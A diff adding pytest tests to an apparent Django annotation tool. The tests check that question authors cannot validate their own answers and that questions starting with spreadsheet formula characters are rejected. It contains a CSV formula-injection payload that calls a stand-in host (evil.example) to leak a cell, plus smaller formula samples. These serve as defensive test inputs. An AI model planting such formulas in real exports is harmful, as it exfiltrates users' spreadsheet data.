@@ -262,3 +262,71 @@ def test_emits_in_one_commit_run_their_stage_once(newsqa_project):
     runs = Job.objects.filter(kind="stage_run",
                               params__stage_id=stage(newsqa_project, "newsqa_split").pk)
     assert runs.count() == 1
+
+
+def test_the_author_of_a_question_does_not_validate_its_answers(newsqa_project, workers,
+                                                                committed):
+    """Questioners, answerers and validators are three groups (design: one worker does not
+    take two roles the protocol separates): the question's author is refused its
+    validation by the claim itself, as its answerers are."""
+    questioner = workers["questioner"]
+    article = _write_questions(newsqa_project, questioner, committed)
+    answer_stage = stage(newsqa_project, "newsqa_answer")
+    Stage.objects.filter(pk=answer_stage.pk).update(
+        params={**answer_stage.params, "max_extra_answers": 0})
+    who = Item.objects.get(stage__kind="newsqa_answer", document=article.document,
+                           data__question="Who opposed the plan?")
+    for name, payload in (("ann1", {"spans": [phrase_span(who, "Dario Weiss")]}),
+                          ("ann2", {"no_answer": True})):
+        task = claim_item(workers[name], newsqa_project, who)
+        with committed():
+            engine.task_submit(assignment_id=task.pk, worker=workers[name], payload=payload)
+    validation = Item.objects.get(stage__kind="newsqa_validate")
+    assert validation.assignments.filter(status="open").count() == 2
+
+    offered = []  # every task the questioner is given, each handed back
+    while (task := engine.task_claim(worker=questioner, project=newsqa_project)) is not None:
+        offered.append(task.item_id)
+        engine.task_release(assignment_id=task.pk, worker=questioner)
+    assert offered and validation.pk not in offered
+    assert set(validation.exclusions.values_list("user__username", flat=True)) == {
+        "questioner", "ann1", "ann2"}
+    assert claim_item(workers["val1"], newsqa_project, validation).item_id == validation.pk
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Who pays?")'
+
+
+def test_a_question_that_would_run_as_a_formula_is_refused_under_it(
+        newsqa_project, workers, committed, client_for):
+    """The release's combined-newsqa-data-v1.csv carries each question as written, and a
+    spreadsheet runs a field starting with =, +, - or @: such a question never gets in."""
+    from django.urls import reverse
+
+    from annotation.models import Submission
+
+    questioner = workers["questioner"]
+    client = client_for(questioner)
+    location = client.post(reverse("annotation:task_next"))["Location"]
+    task = Assignment.objects.get(worker=questioner, status="active")
+    refused = client.post(location, {"question": ["Who opposed the plan?", FORMULA]})
+    assert refused.status_code == 400
+    page = refused.content.decode()
+    second = page.split('data-testid="question-2"', 1)[1].split('data-testid="question-3"')[0]
+    assert 'data-testid="field-error-question-2"' in second
+    assert "Start your question with a word" in second
+    assert "field-error" not in page.split('data-testid="question-2"', 1)[0].split(
+        'data-testid="question-1"', 1)[1]
+    # The check as the worker types says the same.
+    verdict = client.post(reverse("annotation:question_check", args=[task.pk]),
+                          {"question": "@SUM(A1:A9) who pays?"}).content.decode()
+    assert "Start your question with a word" in verdict
+    # Through the API's payload too, and nothing is stored.
+    with pytest.raises(ValidationError, match="question 1: Start your question with a word"):
+        engine.task_submit(assignment_id=task.pk, worker=questioner,
+                           payload={"questions": ["-1+1 who pays for the library?"]})
+    assert not Submission.objects.filter(worker=questioner).exists()
+    with committed():
+        engine.task_submit(assignment_id=task.pk, worker=questioner,
+                           payload={"questions": ["Who pays for the library?"]})
+    assert Submission.objects.filter(worker=questioner).count() == 1
